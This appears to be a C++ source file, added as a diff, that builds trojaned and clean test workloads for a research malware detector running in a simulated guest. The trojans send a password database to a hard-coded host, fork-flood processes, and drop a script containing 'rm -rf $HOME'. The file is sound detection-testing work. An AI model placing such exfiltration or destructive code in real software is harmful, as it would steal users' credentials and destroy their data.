@@ -1,0 +1,292 @@
+#include "workloads/Macro.hh"
+
+#include "workloads/GuestLib.hh"
+
+namespace hth::workloads
+{
+
+using namespace os;
+using secpert::Severity;
+
+namespace
+{
+
+/**
+ * pwsafe (§8.4.1): a password database manager. --exportdb prints
+ * the database to stdout. The trojaned variant additionally resolves
+ * the hard-coded host "duero" with gethostbyname (exercising the
+ * §7.2 short-circuit) and exfiltrates the database to duero:40400.
+ */
+std::shared_ptr<const vm::Image>
+makePwsafe(bool trojaned)
+{
+    Gasm a(trojaned ? "/apps/pwsafe-mod/pwsafe" : "/apps/pwsafe");
+    a.dataString("dbfile", "/home/user/.pwsafe.dat");
+    a.dataString("host", "duero");
+    a.dataString("beacon", "pwsafe-v0.2.0-beacon");
+    a.dataSpace("db", 128);
+    a.dataSpace("addrbuf", 48);
+    a.label("main");
+    a.entry("main");
+
+    // Read the database and print it (--exportdb).
+    a.openSym("dbfile", GO_RDONLY);
+    a.mov(Reg::Ebp, Reg::Eax);
+    a.readFd(Reg::Ebp, "db", 128);
+    a.mov(Reg::Edi, Reg::Eax);              // db length
+    a.closeFd(Reg::Ebp);
+    a.movi(Reg::Ebx, 1);
+    a.leaSym(Reg::Ecx, "db");
+    a.mov(Reg::Edx, Reg::Edi);
+    a.sysc(NR_write);
+
+    if (trojaned) {
+        // Resolve the hard-coded drop host. With Harrier's
+        // short-circuit the resolved address keeps the hard-coded
+        // name's provenance; without it the address carries the
+        // resolver database's provenance instead (the §7.2 failure
+        // mode the ablation bench demonstrates).
+        a.libc1("gethostbyname", "host");
+        a.leaSym(Reg::Edx, "addrbuf");
+        a.inlineStrcpy(Reg::Edx, Reg::Eax);
+
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "addrbuf");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+
+        // Exfiltrate the database, then a hard-coded beacon.
+        a.leaSym(Reg::Ecx, "db");
+        a.movi(Reg::Edx, 64);
+        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+        a.leaSym(Reg::Ecx, "beacon");
+        a.movi(Reg::Edx, 20);
+        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+    }
+    a.exit(0);
+    return a.build();
+}
+
+/**
+ * mw2.2.1 (§8.4.2): the Merriam-Webster lookup perl script. HTH
+ * monitors /usr/bin/perl running the script; the modified script
+ * forks more than 20 children.
+ */
+std::shared_ptr<const vm::Image>
+makePerlMw(bool fork_flood)
+{
+    Gasm a("/usr/bin/perl");
+    a.dataString("website", "www.m-w.com:80");
+    a.dataString("query", "GET /dictionary/harrier HTTP/1.0\r\n\r\n");
+    a.dataSpace("reply", 128);
+    a.dataSpace("argv_slot", 4);
+    a.label("main");
+    a.entry("main");
+    a.leaSym(Reg::Edi, "argv_slot");
+    a.store(Reg::Edi, 0, Reg::Ebx);
+
+    // Interpret the script named in argv[1] (read its text).
+    a.loadArgv(1);
+    a.openReg(Reg::Eax, GO_RDONLY);
+    a.mov(Reg::Ebp, Reg::Eax);
+    a.readFd(Reg::Ebp, "reply", 64);
+    a.closeFd(Reg::Ebp);
+
+    // Look the word up at the hard-coded site, print the answer.
+    a.sockCreate();
+    a.mov(Reg::Ebp, Reg::Eax);
+    a.leaSym(Reg::Edx, "website");
+    a.sockConnect(Reg::Ebp, Reg::Edx);
+    a.leaSym(Reg::Ecx, "query");
+    a.movi(Reg::Edx, 37);
+    a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+    a.leaSym(Reg::Edx, "reply");
+    a.sockRecv(Reg::Ebp, Reg::Edx, 127);
+    a.mov(Reg::Edx, Reg::Eax);
+    a.movi(Reg::Ebx, 1);
+    a.leaSym(Reg::Ecx, "reply");
+    a.sysc(NR_write);
+
+    if (fork_flood) {
+        // The modified script forks more than 20 children.
+        a.movi(Reg::Ebp, 0);
+        a.label("fork_loop");
+        a.fork();
+        a.cmpi(Reg::Eax, 0);
+        a.jz("child");
+        a.addi(Reg::Ebp, 1);
+        a.cmpi(Reg::Ebp, 22);
+        a.jl("fork_loop");
+    }
+    a.exit(0);
+    if (fork_flood) {
+        a.label("child");
+        a.sleepTicks(300);
+        a.exit(0);
+    }
+    return a.build();
+}
+
+/**
+ * Ultra Tic-Tac-Toe (§8.4.3): a console game. The trojaned variant
+ * drops ./malicious_code.txt (hard-coded name and contents), chmods
+ * it executable and execs it — the exec fails because the file is
+ * not a loadable image, exactly as in the paper's footnote.
+ */
+std::shared_ptr<const vm::Image>
+makeTtt(bool trojaned)
+{
+    Gasm a(trojaned ? "/apps/uttt-mod/ttt" : "/apps/uttt/ttt");
+    a.dataString("board", " X | O \n---+---\n   |   \n");
+    a.dataString("dropname", "./malicious_code.txt");
+    a.dataString("dropdata", "#!/bin/sh\nrm -rf $HOME  # trojan\n");
+    a.dataSpace("move", 8);
+    a.label("main");
+    a.entry("main");
+
+    // One round: read the user's move, print the board.
+    a.readSym(0, "move", 7);
+    a.writeSym(1, "board", 24);
+
+    if (trojaned) {
+        a.creatSym("dropname");
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.writeFd(Reg::Ebp, "dropdata", 33);
+        a.closeFd(Reg::Ebp);
+        a.chmodSym("dropname");
+        a.execveSym("dropname");    // fails: not an executable image
+    }
+    a.exit(0);
+    return a.build();
+}
+
+} // namespace
+
+std::vector<Scenario>
+macroScenarios()
+{
+    std::vector<Scenario> out;
+
+    auto setup_net = [](Kernel &k) {
+        // The drop box listens on duero's bare address (the guest
+        // connects straight to the gethostbyname result).
+        std::string duero = k.net().addHost("duero");
+        RemotePeer drop;
+        drop.name = "duero:40400";
+        k.net().addRemoteServer(duero, drop);
+        k.net().addHost("www.m-w.com");
+        RemotePeer mw;
+        mw.name = "www.m-w.com:80";
+        mw.onConnect = [](RemoteConn &) {};
+        mw.onData = [](RemoteConn &c, const std::string &) {
+            c.send("HTTP/1.0 200 OK\r\n\r\nharrier: a slender "
+                   "long-winged hawk\r\n");
+        };
+        k.net().addRemoteServer("www.m-w.com:80", mw);
+    };
+
+    {
+        auto image = makePwsafe(false);
+        Scenario s;
+        s.id = "pwsafe --exportdb";
+        s.description = "clean password manager export";
+        s.path = image->path;
+        s.argv = {image->path, "--exportdb"};
+        s.setup = [image, setup_net](Kernel &k) {
+            setup_net(k);
+            k.vfs().addBinary(image->path, image);
+            k.vfs().addFile("/home/user/.pwsafe.dat",
+                            "bank.example  alice  hunter2\n"
+                            "mail.example  alice  sw0rdf1sh\n");
+        };
+        out.push_back(std::move(s));
+    }
+
+    {
+        auto image = makePwsafe(true);
+        Scenario s;
+        s.id = "pwsafe (trojaned)";
+        s.description = "password manager exfiltrating its database";
+        s.path = image->path;
+        s.argv = {image->path, "--exportdb"};
+        s.setup = [image, setup_net](Kernel &k) {
+            setup_net(k);
+            k.vfs().addBinary(image->path, image);
+            k.vfs().addFile("/home/user/.pwsafe.dat",
+                            "bank.example  alice  hunter2\n"
+                            "mail.example  alice  sw0rdf1sh\n");
+        };
+        s.expectMalicious = true;
+        s.expectSeverity = Severity::Low;   // at least the beacon
+        out.push_back(std::move(s));
+    }
+
+    {
+        auto image = makePerlMw(false);
+        Scenario s;
+        s.id = "mw2.2.1";
+        s.description = "perl word lookup at m-w.com";
+        s.path = image->path;
+        s.argv = {image->path, "mw2.2.1", "harrier"};
+        s.disableTaint = true;      // as in the paper (§8.4.2)
+        s.setup = [image, setup_net](Kernel &k) {
+            setup_net(k);
+            k.vfs().addBinary(image->path, image);
+            k.vfs().addFile("mw2.2.1",
+                            "#!/usr/bin/perl\n# merriam-webster "
+                            "lookup script\n");
+        };
+        out.push_back(std::move(s));
+    }
+
+    {
+        auto image = makePerlMw(true);
+        Scenario s;
+        s.id = "mw2.2.1 (fork flood)";
+        s.description = "modified script forking 22 children";
+        s.path = image->path;
+        s.argv = {image->path, "mw2.2.1", "harrier"};
+        s.disableTaint = true;      // as in the paper (§8.4.2)
+        s.setup = [image, setup_net](Kernel &k) {
+            setup_net(k);
+            k.vfs().addBinary(image->path, image);
+            k.vfs().addFile("mw2.2.1",
+                            "#!/usr/bin/perl\n# modified: forks\n");
+        };
+        s.expectMalicious = true;
+        s.expectSeverity = Severity::Medium;
+        out.push_back(std::move(s));
+    }
+
+    {
+        auto image = makeTtt(false);
+        Scenario s;
+        s.id = "ttt";
+        s.description = "Ultra Tic-Tac-Toe, clean";
+        s.path = image->path;
+        s.stdinData = "a1\n";
+        s.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+        };
+        out.push_back(std::move(s));
+    }
+
+    {
+        auto image = makeTtt(true);
+        Scenario s;
+        s.id = "ttt (trojaned)";
+        s.description = "Tic-Tac-Toe dropping and executing a file";
+        s.path = image->path;
+        s.stdinData = "a1\n";
+        s.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+        };
+        s.expectMalicious = true;
+        s.expectSeverity = Severity::High;
+        out.push_back(std::move(s));
+    }
+
+    return out;
+}
+
+} // namespace hth::workloads
